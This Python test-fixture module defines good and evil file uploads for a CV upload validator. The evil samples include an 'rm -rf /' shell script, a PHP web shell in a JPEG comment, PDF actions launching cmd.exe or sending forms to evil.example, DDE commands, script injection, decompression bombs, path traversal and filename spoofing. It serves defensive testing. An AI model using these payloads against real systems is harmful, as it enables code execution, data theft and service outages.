"""Good and evil uploads; the large ones are made when a test asks for them."""

import zlib
from collections.abc import Callable
from zipfile import ZIP_STORED

from tests.files.making import (
    WORD,
    bomb,
    docx,
    encrypted_member,
    locked_pdf,
    odt,
    packed,
    pdf,
    picture,
    png_of,
    png_with_text,
    png_with_words,
    stream,
    written_pdf,
    xlsx,
)

MB = 1024 * 1024
Made = bytes | Callable[[], bytes]


def bytes_of(made: Made) -> bytes:
    """The file itself."""
    return made if isinstance(made, bytes) else made()


EXTERNAL = (
    '<Relationships><Relationship Type="http://x/{kind}" Target="http://evil.example/x" '
    'TargetMode="External"/></Relationships>'
)

GOOD: dict[str, tuple[str, Made, str]] = {
    "hand-made pdf": ("cv.pdf", pdf(), "application/pdf"),
    "pdf 1.4": ("cv.pdf", pdf(header=b"%PDF-1.4\n"), "application/pdf"),
    "pdf of ten pages": ("Lebenslauf Müller.pdf", written_pdf(10), "application/pdf"),
    "pdf with a packed stream": ("cv.pdf", lambda: pdf(stream(bomb(2 * MB))), "application/pdf"),
    "pdf with a link": ("cv.pdf", pdf("<< /S /URI /URI (https://score.example) >>"), "application/pdf"),
    "pdf that opens on a page": ("cv.pdf", pdf(catalog="/OpenAction [3 0 R /Fit]"), "application/pdf"),
    "pdf with a line end after its end": ("cv.pdf", pdf(tail=b"\r\n\r\n"), "application/pdf"),
    "pdf named in capitals": ("CV.PDF", pdf(), "application/pdf"),
    "pdf with dots in its name": ("A. B. Mekonnen CV 2.0.pdf", pdf(), "application/pdf"),
    "pdf named in Burmese": ("ကိုယ်ရေးရာဇဝင်.pdf", pdf(), "application/pdf"),
    "pdf named in Arabic": ("السيرة الذاتية.pdf", pdf(), "application/pdf"),
    "pdf named with a joiner": ("می\u200cخواهم.pdf", pdf(), "application/pdf"),
    "pdf named as a page would be": ("<b>cv</b>.pdf", pdf(), "application/pdf"),
    "pdf of a very long name": ("x" * 4000 + ".pdf", pdf(), "application/pdf"),
    "jpeg": ("sheet.jpg", picture("JPEG"), "image/jpeg"),
    "jpeg named jpeg": ("sheet.jpeg", picture("JPEG"), "image/jpeg"),
    "grey jpeg": ("sheet.jpg", picture("JPEG", "L"), "image/jpeg"),
    "cmyk jpeg": ("sheet.jpg", picture("JPEG", "CMYK"), "image/jpeg"),
    "progressive jpeg": ("sheet.jpg", picture("JPEG", progressive=True), "image/jpeg"),
    "large jpeg": ("sheet.jpg", lambda: picture("JPEG", size=(4000, 3000)), "image/jpeg"),
    "png": ("scan.png", picture("PNG"), "image/png"),
    "see-through png": ("scan.png", picture("PNG", "RGBA"), "image/png"),
    "black and white png": ("scan.png", picture("PNG", "1"), "image/png"),
    "png with a palette": ("scan.png", picture("PNG", "P"), "image/png"),
    "png with a short text": ("scan.png", png_with_text(1000), "image/png"),
    "docx": ("cv.docx", docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "docx with a picture": (
        "cv.docx",
        docx({"word/media/image1.png": picture("PNG")}),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "docx with a link": (
        "cv.docx",
        docx({"word/_rels/document.xml.rels": EXTERNAL.format(kind="hyperlink")}),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "xlsx": ("log.xlsx", xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "xlsx that was printed": (
        "log.xlsx",
        xlsx({"xl/printerSettings/printerSettings1.bin": b"\0\1"}),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "odt": ("cv.odt", odt(), "application/vnd.oasis.opendocument.text"),
    "odt with a thumbnail": (
        "cv.odt",
        odt({"Thumbnails/thumbnail.png": picture("PNG")}),
        "application/vnd.oasis.opendocument.text",
    ),
}

EVIL: dict[str, tuple[str, Made]] = {
    # not what is taken
    "nothing": ("cv.pdf", b""),
    "one byte": ("cv.pdf", b"%"),
    "a text": ("cv.pdf", b"My name is Ana."),
    "a page": ("cv.pdf", b"<!doctype html><script>alert(1)</script>"),
    "a drawing that scripts": ("cv.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "a Windows program": ("cv.pdf", b"MZ\x90\0" + b"\0" * 200),
    "a Linux program": ("cv.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 200),
    "a shell script": ("cv.pdf", b"#!/bin/sh\nrm -rf /\n"),
    "a gif": ("cv.png", picture("GIF", "P")),
    "a tiff": ("cv.png", picture("TIFF")),
    "an old Word file": ("cv.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "a gzip": ("cv.pdf", b"\x1f\x8b\x08\0" + b"\0" * 60),
    "a plain archive": ("cv.docx", packed({"a.txt": "a"})),
    "an archive named zip": ("cv.zip", packed({"a.txt": "a"})),
    "a java archive": ("cv.docx", packed({"META-INF/MANIFEST.MF": "x", "A.class": "y"})),
    "too large": ("cv.pdf", lambda: pdf(stream(b"\0" * 11 * MB, "[]"))),
    # names that pretend
    "a pdf named exe": ("cv.exe", pdf()),
    "a pdf named jpg": ("cv.jpg", pdf()),
    "a jpeg named png": ("cv.png", picture("JPEG")),
    "a docx named pdf": ("cv.pdf", docx()),
    "a docx named docm": ("cv.docm", docx()),
    "no ending": ("cv", pdf()),
    "no name": ("", pdf()),
    "only an ending": (".pdf", pdf()),
    "two endings, program inside": ("cv.exe.pdf", pdf()),
    "two endings, page inside": ("cv.html.pdf", pdf()),
    "two endings, php inside": ("photo.php.jpg", picture("JPEG")),
    "two endings, program last": ("cv.pdf.exe", pdf()),
    "written backwards": ("cv\u202efdp.exe.pdf", pdf()),
    "a null in the name": ("cv.exe\0.pdf", pdf()),
    "a line end in the name": ("cv\r\nSet-Cookie: a=b.pdf", pdf()),
    "an invisible space in the name": ("cv\u200b.pdf", pdf()),
    "a name of nothing but dots": ("....pdf", pdf()),
    "a name in private letters": ("cv\ue000.pdf", pdf()),
    "half a pair in the name": ("cv\ud800.pdf", pdf()),
    # PDFs that act
    "pdf with a script": (
        "cv.pdf",
        pdf("<< /S /JavaScript /JS (app.alert(1)) >>", catalog="/OpenAction 4 0 R"),
    ),
    "pdf with a spelt-out script": ("cv.pdf", pdf("<< /S /J#61vaScript /J#53 (1) >>")),
    "pdf with a script by name": ("cv.pdf", pdf("<< /JS (1) >>")),
    "pdf with a script in a page": ("cv.pdf", pdf("<< /AA << /O << /S /JavaScript /JS (1) >> >> >>")),
    "pdf that launches": ("cv.pdf", pdf("<< /S /Launch /F (cmd.exe) >>")),
    "pdf that sends a form": ("cv.pdf", pdf("<< /S /SubmitForm /F (http://evil.example) >>")),
    "pdf that imports": ("cv.pdf", pdf("<< /S /ImportData /F (x.fdf) >>")),
    "pdf that opens another": ("cv.pdf", pdf("<< /S /GoToR /F (//evil.example/x.pdf) >>")),
    "pdf with a file inside": ("cv.pdf", pdf("<< /Type /Filespec /EF << /F 5 0 R >> >>", stream(bomb(9)))),
    "pdf with a file list": ("cv.pdf", pdf(catalog="/Names << /EmbeddedFiles << /Names [] >> >>")),
    "pdf with a form program": ("cv.pdf", pdf(catalog="/AcroForm << /XFA [] >>")),
    "pdf with a script by another name": ("cv.pdf", pdf(catalog="/Names << /JavaScript << /Names [] >> >>")),
    "pdf with a sound": ("cv.pdf", pdf("<< /Type /Annot /Subtype /Sound >>")),
    "pdf with a file to fetch": ("cv.pdf", pdf("<< /S /GoToE /F (x.pdf) >>")),
    "pdf with a script in packed parts": (
        "cv.pdf",
        pdf(
            stream(
                zlib.compress(b"4 0 << /S /JavaScript /JS (1) >>"), "/FlateDecode /Type /ObjStm /N 1 /First 4"
            )
        ),
    ),
    "pdf with a film": ("cv.pdf", pdf("<< /Type /Annot /Subtype /RichMedia >>")),
    "pdf with an unlisted script": (
        "cv.pdf",
        pdf().replace(b"xref\n0 4", b"9 0 obj\n<< /S /JavaScript >>\nendobj\nxref\n0 4", 1),
    ),
    "pdf with a password": ("cv.pdf", locked_pdf()),
    "pdf that bursts": ("cv.pdf", lambda: pdf(stream(bomb(160 * MB)))),
    "pdf that bursts twice": (
        "cv.pdf",
        lambda: pdf(stream(zlib.compress(bomb(160 * MB)), "[/FlateDecode /FlateDecode]")),
    ),
    "pdf packed many times": ("cv.pdf", pdf(stream(b"x", "[/Fl /Fl /Fl /Fl]"))),
    "pdf nested deep": ("cv.pdf", pdf("[" * 200 + "]" * 200)),
    "pdf without pages": ("cv.pdf", pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids []      /Count 0")),
    "pdf cut off": ("cv.pdf", pdf()[:-40]),
    "pdf of a header alone": ("cv.pdf", b"%PDF-1.7\n%%EOF\n"),
    "pdf and archive": ("cv.pdf", pdf(tail=packed({"a.class": "x"}))),
    "pdf and page": ("cv.pdf", pdf(header=b"%PDF-1.7\n%<script>alert(1)</script>\n")),
    "pdf and script after its end": ("cv.pdf", pdf(tail=b"#!/bin/sh\n")),
    # pictures that are more
    "jpeg and archive": ("a.jpg", picture("JPEG") + packed({"a.class": "x"})),
    "jpeg and php": ("a.jpg", picture("JPEG", comment=b"<?php system($_GET[1]); ?>")),
    "jpeg and page": ("a.jpg", picture("JPEG") + b"<ScRiPt>alert(1)</ScRiPt>"),
    "jpeg and pdf": ("a.jpg", picture("JPEG", comment=pdf())),
    "jpeg cut off": ("a.jpg", picture("JPEG", size=(900, 900))[:400]),
    "jpeg of a header alone": ("a.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 40),
    "png of 2,500 megapixels": ("a.png", png_of(50_000, 50_000)),
    "png that bursts in its text": ("a.png", lambda: png_with_text(80 * MB)),
    "png without pixels": ("a.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 40),
    "jpeg of 4,200 megapixels": (
        "a.jpg",
        picture("JPEG").replace(b"\x00\x1e\x00\x28", b"\xff\xff\xff\xff", 1),
    ),
    "png and archive": ("a.png", picture("PNG") + packed({"a.class": "x"})),
    "png and pdf": ("a.png", png_with_words("Comment", "%PDF-1.7")),
    "png and page": ("a.png", png_with_words("Comment", "<html onload=alert(1)>")),
    "a webp": ("a.png", picture("WEBP")),
    "a bmp": ("a.png", picture("BMP")),
    # documents that act
    "docx with macros": ("a.docx", docx({"word/vbaProject.bin": b"x"})),
    "docx that says it has macros": (
        "a.docx",
        docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "docx with a template to fetch": (
        "a.docx",
        docx({"word/_rels/settings.xml.rels": EXTERNAL.format(kind="attachedTemplate")}),
    ),
    "docx with an object to fetch": (
        "a.docx",
        docx({"word/_rels/document.xml.rels": EXTERNAL.format(kind="oleObject")}),
    ),
    "docx with an object": ("a.docx", docx({"word/embeddings/oleObject1.bin": b"x"})),
    "docx with a program": ("a.docx", docx({"word/run.exe": b"MZ"})),
    "docx with a command": ("a.docx", docx({"word/footer1.xml": "<w:instrText>DDEAUTO cmd</w:instrText>"})),
    "docx with entities": ("a.docx", docx({"word/footer1.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'})),
    "docx in two-byte letters": ("a.docx", docx({"word/footer1.xml": "<!DOCTYPE a>".encode("utf-16")})),
    "docx that bursts": ("a.docx", lambda: docx({"word/media/image1.png": b"\0" * 160 * MB})),
    "docx that climbs out": ("a.docx", docx({"../../etc/cron.xml": "x"})),
    "docx of an absolute path": ("a.docx", docx({"/etc/cron.xml": "x"})),
    "docx with an archive inside": ("a.docx", docx({"word/media/a.zip": b"PK"})),
    "docx without a text": ("a.docx", packed({"[Content_Types].xml": f'<a ContentType="{WORD}"/>'})),
    "docx with a password": ("a.docx", encrypted_member(docx(method=ZIP_STORED))),
    "docx with a comment after it": ("a.docx", docx(comment=b"#!/bin/sh")),
    "docx after something": ("a.docx", b"#!/bin/sh\n" + docx()),
    "docx packed with a rare method": ("a.docx", docx(method=12)),
    "docx in a docx": ("a.docx", docx({"word/embeddings/inner.docx": docx()})),
    "docx that holds a page": ("a.docx", docx({"word/afchunk.html": "<script>alert(1)</script>"})),
    "docx with a drawing that scripts": ("a.docx", docx({"word/media/a.svg": "<svg onload='alert(1)'/>"})),
    "docx of too many parts": ("a.docx", lambda: docx({f"word/media/{n}.png": b"" for n in range(3001)})),
    "docx whose text bursts": ("a.docx", lambda: docx({"word/footnotes.xml": b" " * 160 * MB})),
    "docx cut off": ("a.docx", docx()[:-40]),
    "xlsx with macros": ("a.xlsx", xlsx({"xl/vbaProject.bin": b"x"})),
    "xlsx with a command": (
        "a.xlsx",
        xlsx({"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>'}),
    ),
    "odt with Basic": ("a.odt", odt({"Basic/Standard/Module1.xml": "<x/>"})),
    "odt with scripts": ("a.odt", odt({"Scripts/python/a.py": "x"})),
    "odt that listens": ("a.odt", odt({"styles.xml": "<script:event-listener/>"})),
    "odt with a password": ("a.odt", odt({"META-INF/manifest.xml": "<manifest:encryption-data/>"})),
    "an ods": ("a.odt", odt(kind="application/vnd.oasis.opendocument.spreadsheet")),
}
